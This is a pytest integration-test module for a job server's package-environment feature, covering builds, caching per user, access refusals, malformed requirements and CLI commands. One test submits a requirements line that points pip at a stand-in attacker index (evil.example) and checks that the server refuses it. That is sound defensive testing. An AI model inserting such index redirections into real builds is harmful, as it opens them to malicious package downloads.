"""Environments end to end on a real server (local engine, bubblewrap, cgroups, SQLite): a build
job resolves and installs a wheel the test made (offline: --no-index --find-links), a job runs
in the environment and sees that package and none of the server's; a second build of the same
lock by the same user is a cache hit, by another user not (review104, finding 2); unknown,
private and failed environments are refused at submit."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from corral.cli.main import app as cli
from corral.sdk import ApiError, Client
from tests.environments.wheels import make_wheel
from tests.server_fixture import CorralServer, group_member_clients, start_server

pytestmark = pytest.mark.isolation
PKG = "corraltestpkg"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CorralServer]:
    base = tmp_path_factory.mktemp("envs")
    make_wheel(base / "wheels", PKG, "1.0", "VALUE = 42\n")
    srv = start_server(
        base / "home", allow_unisolated=False, extra_env={"CORRAL_ENV_FIND_LINKS": str(base / "wheels")}
    )
    try:
        yield srv
    finally:
        srv.stop()


@pytest.fixture(scope="module")
def clients(server: CorralServer) -> Iterator[dict[str, Client]]:
    yield from group_member_clients(server, "vision", ("alice", "bob"))


def build(c: Client, name: str, source: str) -> dict:
    queued = c.create_environment(name, source)
    assert queued["state"] == "building" and queued["build_job_id"]
    return c.wait_environment(name, queued["version"], timeout_s=120, poll_s=0.2)


def test_build_run_in_it_and_cache_hit(server: CorralServer, clients: dict[str, Client]) -> None:
    alice, bob = clients["alice"], clients["bob"]
    first = build(alice, "tpkg", f"{PKG}==1.0\n")
    log = alice.logs(first["build_job_id"])["data"]
    assert first["state"] == "ready", (first, log)
    assert first["cache_hit"] is False and f"{PKG}==1.0" in (first["lock"] or "")
    copy = server.home / "storage" / "env" / "store" / first["cache_key"]
    assert copy.is_dir() and os.stat(copy).st_uid == 0
    assert stat.S_IMODE(os.stat(copy).st_mode) == 0o555
    assert "uv venv" in log and f"built {first['cache_key']}" in log

    job = alice.submit(
        {
            "name": "in-env",
            "environment": "tpkg",
            "resources": {"cpus": 0.25, "memory": "256MiB"},
            "command": f"python -c 'import {PKG}; print(\"VALUE\", {PKG}.VALUE)'; "
            "python -c 'import yaml' 2>/dev/null; echo yaml=$?; command -v python; "
            "touch /env/tpkg/x 2>/dev/null; echo touch=$?",
        }
    )
    assert job["environment_version"] == "tpkg@1"
    job = alice.wait(job["id"], timeout_s=60)
    out = alice.logs(job["id"])["data"]
    assert job["state"] == "succeeded", out
    assert "VALUE 42" in out  # the environment's package
    assert "yaml=1" in out  # the server's pyyaml is not there
    assert "/env/tpkg/bin/python" in out and "touch=0" not in out  # read-only

    # The same lock again, by the same user: the store's copy is shared, nothing is installed.
    second = build(alice, "tpkg-again", f"{PKG}==1.0\n")
    log2 = alice.logs(second["build_job_id"])["data"]
    assert second["state"] == "ready", (second, log2)
    assert second["cache_hit"] is True and second["cache_key"] == first["cache_key"]
    assert "cache hit" in log2 and "uv venv" not in log2 and "pip install" not in log2
    cold = first["built_at"] - first["created_at"]
    warm = second["built_at"] - second["created_at"]
    print(f"environment build: cold {cold:.2f} s, cached {warm:.2f} s")

    # By another user: alice's build job wrote that copy as alice, so bob's build makes its own.
    third = build(bob, "tpkg-bob", f"{PKG}==1.0\n")
    log3 = bob.logs(third["build_job_id"])["data"]
    assert third["state"] == "ready", (third, log3)
    assert third["cache_hit"] is False and third["cache_key"] != first["cache_key"]
    assert "uv venv" in log3 and f"built {third['cache_key']}" in log3


def test_unknown_private_and_failed_environments_are_refused(clients: dict[str, Client]) -> None:
    alice, bob = clients["alice"], clients["bob"]
    with pytest.raises(ApiError) as unknown:
        alice.submit({"name": "x", "command": "true", "environment": "nosuch"})
    assert unknown.value.status_code == 422 and "environment 'nosuch' does not exist" in unknown.value.message

    private = build(alice, "mine", f"{PKG}\n")
    assert private["state"] == "ready"
    with pytest.raises(ApiError) as hidden:  # alice's private environment is not bob's to use
        bob.submit({"name": "x", "command": "true", "environment": "mine"})
    assert hidden.value.status_code == 422 and "'mine' does not exist" in hidden.value.message
    with pytest.raises(ApiError) as taken:  # nor hers to add versions to
        bob.create_environment("mine", f"{PKG}\n")
    assert taken.value.status_code == 409 and "taken" in taken.value.message
    with pytest.raises(ApiError) as no_version:
        alice.submit({"name": "x", "command": "true", "environment": "mine@7"})
    assert no_version.value.status_code == 422 and "no version 7" in no_version.value.message
    busy = alice.submit({"name": "busy", "command": "sleep 60", "environment": "mine"})
    with pytest.raises(ApiError) as in_use:  # a job that has not ended keeps its environment
        alice.delete_environment("mine")
    assert in_use.value.status_code == 409 and f"active job {busy['id']}" in in_use.value.message
    alice.cancel(busy["id"])
    alice.wait(busy["id"], timeout_s=60)
    alice.delete_environment("mine")
    with pytest.raises(ApiError) as gone:
        alice.submit({"name": "x", "command": "true", "environment": "mine@1"})
    assert gone.value.status_code == 422


def test_malformed_requirements_fail_cleanly(server: CorralServer, clients: dict[str, Client]) -> None:
    alice = clients["alice"]
    store = server.home / "storage" / "env" / "store"
    before = set(os.listdir(store)) if store.is_dir() else set()
    failed = build(alice, "broken", f"{PKG} >>= 1.0 !!\n")
    assert failed["state"] == "failed" and failed["cache_key"] is None
    assert "build job" in failed["error"] and ">>=" in failed["error"]  # uv's complaint, from the log
    log = alice.logs(failed["build_job_id"])["data"]
    assert "failed with exit code" in log
    assert (set(os.listdir(store)) if store.is_dir() else set()) == before  # nothing registered
    with pytest.raises(ApiError) as refused:
        alice.submit({"name": "x", "command": "true", "environment": "broken@1"})
    assert refused.value.status_code == 422 and "broken@1 is failed" in refused.value.message
    with pytest.raises(ApiError) as own_index:  # a build reaches the admin's index only
        alice.create_environment("sneaky", "--index-url http://evil.example/simple\nrequests\n")
    assert own_index.value.status_code == 422 and "not allowed" in own_index.value.message
    with pytest.raises(ApiError) as gone:
        alice.environment("sneaky")
    assert gone.value.status_code == 404


def test_cli_create_show_ls_rm(server: CorralServer, clients: dict[str, Client], tmp_path: Path) -> None:
    token = clients["admin"].create_token("alice-cli", user="alice")["token"]

    def corral(*args: str) -> tuple[int, str]:
        result = CliRunner().invoke(cli, list(args), env={"CORRAL_URL": server.url, "CORRAL_TOKEN": token})
        assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
        return result.exit_code, result.output

    reqs = tmp_path / "requirements.txt"
    reqs.write_text(f"{PKG} ==== 1\n")
    code, out = corral("env", "create", "clibad", "-r", str(reqs))
    assert code == 1 and "the build failed" in out and "failed with exit code" in out, out  # its log
    reqs.write_text(f"{PKG}==1.0\n")
    code, out = corral("env", "create", "clibad", "-r", str(reqs))
    assert code == 0 and "clibad@2: ready" in out, out
    code, out = corral("env", "ls")
    assert code == 0 and "clibad" in out and "@2" in out and "1:failed" in out, out
    code, out = corral("env", "show", "clibad@2")
    assert code == 0 and f"{PKG}==1.0" in out, out
    code, out = corral("env", "rm", "clibad")
    assert code == 0 and "deleted" in out
    assert all(e["name"] != "clibad" for e in clients["alice"].environments())
